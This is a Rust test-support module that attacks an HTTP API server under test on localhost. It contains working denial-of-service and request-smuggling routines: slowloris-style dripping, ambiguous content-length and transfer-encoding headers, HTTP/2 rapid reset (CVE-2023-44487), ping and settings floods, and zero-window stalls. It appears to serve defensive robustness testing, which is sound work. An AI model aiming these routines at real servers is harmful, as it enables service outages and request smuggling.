//! Attacks below requests: connections, heads, frames. Attackers take whatever comes back.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::ground::Ground;
use crate::support::frames::{END_HEADERS, END_STREAM, block, frame, request};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// How long an attacker listens to an answer.
const LISTEN: Duration = Duration::from_millis(1500);

/// A request in bytes.
pub(crate) fn post(key: &str, path: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let mut bytes = format!(
        "POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n{headers}\
         authorization: Bearer {key}\r\ncontent-length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    bytes.extend(body);
    bytes
}

/// Send bytes on a connection of their own, and read for a while.
pub(crate) fn exchange(ground: &Ground, sent: &[u8]) {
    let Some(mut stream) = ground.connect() else {
        return;
    };
    if stream.write_all(sent).is_ok() {
        listen(&mut stream);
    }
}

/// Send bytes and leave at once.
pub(crate) fn send_and_leave(ground: &Ground, sent: &[u8]) {
    if let Some(mut stream) = ground.connect() {
        let _ = stream.write_all(sent);
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn listen(stream: &mut TcpStream) {
    let begun = Instant::now();
    let _ = stream.set_read_timeout(Some(LISTEN));
    let mut piece = vec![0; 1 << 16];
    while begun.elapsed() < LISTEN {
        match stream.read(&mut piece) {
            Ok(1..) => {}
            Ok(0) | Err(_) => return,
        }
    }
}

/// Open many connections that send this much, and hold them.
pub(crate) fn hold(ground: &Ground, count: usize, sent: &[u8]) {
    let held: Vec<TcpStream> = (0..count)
        .filter_map(|_| {
            let mut stream = ground.connect()?;
            stream.write_all(sent).ok()?;
            Some(stream)
        })
        .collect();
    std::thread::sleep(Duration::from_millis(700));
    drop(held);
}

/// Open connections, and send one byte of a head after the other.
pub(crate) fn drip(ground: &Ground) {
    let mut streams: Vec<TcpStream> = (0..20).filter_map(|_| ground.connect()).collect();
    for byte in b"GET /v1/models HTTP/1.1\r\nhost: loc" {
        for stream in &mut streams {
            let _ = stream.write_all(&[*byte]);
        }
        std::thread::sleep(Duration::from_millis(30));
    }
}

/// Heads that two servers could read in two ways.
pub(crate) fn ambiguous_heads(ground: &Ground) {
    for head in [
        "content-length: 3\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET",
        "content-length: 3\r\ncontent-length: 3\r\n\r\nabc",
        "transfer-encoding: x, chunked\r\n\r\n0\r\n\r\n",
        "transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
        "content-length: 18446744073709551616\r\n\r\n",
        "host: twice\r\n\r\n",
        "x: a\n b\r\n\r\n",
        "transfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        "transfer-encoding: chunked\r\n\r\n5;x=\r\nabc",
        "transfer-encoding: chunked\r\n\r\n1 \r\n{\r\n0\r\n\r\n",
        "transfer-encoding: chunked\r\n\r\n1\r\n{\r\n0\r\na: b\n\r\n",
    ] {
        let sent = format!("POST /v1/completions HTTP/1.1\r\nhost: localhost\r\n{head}");
        exchange(ground, sent.as_bytes());
    }
    let many: String = (0..5000).map(|n| format!("x-{n}: {n}\r\n")).collect();
    exchange(ground, format!("GET / HTTP/1.1\r\n{many}\r\n").as_bytes());
    let long = "a".repeat(1 << 20);
    exchange(ground, format!("GET /{long} HTTP/1.1\r\n").as_bytes());
    exchange(
        ground,
        format!("GET / HTTP/1.1\r\nx: {long}\r\n").as_bytes(),
    );
}

fn opened(ground: &Ground) -> Option<TcpStream> {
    let mut stream = ground.connect()?;
    stream.write_all(PREFACE).ok()?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).ok()?;
    Some(stream)
}

/// Streams without a key that send bodies.
pub(crate) fn keyless_streams(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("POST", "/v1/chat/completions"));
    let piece = vec![b' '; 16_384];
    for id in (1..256).step_by(2) {
        let sent = stream.write_all(&frame(HEADERS, END_HEADERS, id, &head));
        if sent.is_err() || stream.write_all(&frame(DATA, 0, id, &piece)).is_err() {
            break;
        }
    }
    listen(&mut stream);
}

/// Streams that are reset as soon as they are opened (CVE-2023-44487).
pub(crate) fn rapid_resets(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("GET", "/v1/models"));
    for id in (1..4000).step_by(2) {
        let mut both = frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
        both.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        if stream.write_all(&both).is_err() {
            break;
        }
    }
    listen(&mut stream);
}

/// Frames that ask for an answer each, and are never read.
pub(crate) fn control_frames(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    for _ in 0..20_000 {
        let mut both = frame(PING, 0, 0, b"12345678");
        both.extend(frame(SETTINGS, 0, 0, &[]));
        if stream.write_all(&both).is_err() {
            break;
        }
    }
}

/// Answers over HTTP/2 that nobody makes room for.
pub(crate) fn closed_windows(ground: &Ground, key: &str) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    // SETTINGS_INITIAL_WINDOW_SIZE = 0
    let _ = stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
    let bearer = format!("Bearer {key}");
    let mut headers = request("GET", "/v1/models");
    headers.push(("authorization", &bearer));
    let head = block(&headers);
    for id in (1..256).step_by(2) {
        if stream
            .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head))
            .is_err()
        {
            break;
        }
    }
    std::thread::sleep(Duration::from_millis(500));
}
